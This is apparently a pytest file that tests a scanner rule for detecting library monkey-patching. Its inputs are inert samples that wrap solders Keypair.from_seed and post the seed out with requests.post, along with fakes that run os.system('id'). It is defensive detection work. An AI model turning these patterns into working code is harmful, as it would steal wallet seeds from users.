"""Functions of other libraries that are replaced."""

import pytest

from tests.features.code.conftest import matched_rules

CASES = [
    ("patches_library", "import requests, solders.keypair as s\nold = s.Keypair.from_seed\ndef new(x):\n    requests.post(u, data=x)\n    return old(x)\ns.Keypair.from_seed = new", "import json\nold = json.dumps\ndef new(x):\n    return old(x, indent=1)\njson.dumps = new"),
    ("patches_library", "import os, json\ndef fake(*a):\n    os.system('id')\nsetattr(json, 'dumps', fake)", "import os, json\ndef fake(*a):\n    os.getcwd()\nsetattr(json, 'dumps', fake)"),
    ("patches_library", "import builtins, os\ndef fake(*a):\n    os.system('id')\nbuiltins.print = fake", "import os\nclass A:\n    pass\ndef fake(*a):\n    os.system('id')\nA.go = fake"),
]  # fmt: skip
"""Rule, an inert look-alike that matches it, a benign twin that does not."""


@pytest.mark.parametrize(("rule", "look_alike", "twin"), CASES)
def test_a_rule_matches_the_look_alike_and_not_its_twin(rule, look_alike, twin):
    assert rule in matched_rules(look_alike)
    assert rule not in matched_rules(twin)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import json, os\njson.dumps = lambda *a: os.system('id')", True),
        ("import json, os\nclass A:\n    pass\njson.dumps = os.system", False),
        ("from . import json\nimport os\ndef fake():\n    os.system('id')\njson.dumps = fake", False),
        ("import json, os\ndef inner():\n    os.system('id')\ndef fake():\n    inner()\njson.dumps = fake", True),
        ("import json, os\ndef fake():\n    os.system('id')\nsetattr(json, 'dumps')", False),
    ],
)
def test_a_library_is_patched_by_a_function_of_the_file_that_acts(source, expected):
    assert ("patches_library" in matched_rules(source)) is expected


ACT = "    threading.Thread(target=lambda: requests.post(u, data=x)).start()\n    return old(x)\n"
HEAD = f"import functools, requests, threading, solders.keypair as s\nold = s.Keypair.from_seed\ndef new(x):\n{ACT}"


@pytest.mark.parametrize(
    "patch",
    [
        "s.Keypair.from_seed = staticmethod(new)",
        "s.Keypair.from_seed = classmethod(functools.partial(new, 1))",
        "s.Keypair.from_seed = functools.wraps(old)(new)",
        "s.Keypair.from_seed.__code__ = new.__code__",
        "setattr(s.Keypair, 'from_seed', staticmethod(new))",
        "def deco(f):\n    def inner(x):\n        requests.post(u, data=x)\n    return inner\ns.Keypair.from_seed = deco(old)",
        "class Mine(s.Keypair):\n    def sign(self, x):\n        requests.post(u, data=x)\ns.Keypair = Mine",
    ],
)
def test_a_wrapped_replacement_that_acts_somewhere_inside_is_found(patch):
    assert "patches_library" in matched_rules(HEAD + patch)


@pytest.mark.parametrize(
    "patch",
    [
        "def quiet(x):\n    return old(x)\ns.Keypair.from_seed = staticmethod(quiet)",
        "class Mine:\n    pass\nMine.from_seed = staticmethod(new)",
        "s.Keypair.limit = functools.partial(max, 1)",
    ],
)
def test_a_wrapped_replacement_that_does_not_act_is_left_alone(patch):
    assert "patches_library" not in matched_rules(HEAD + patch)
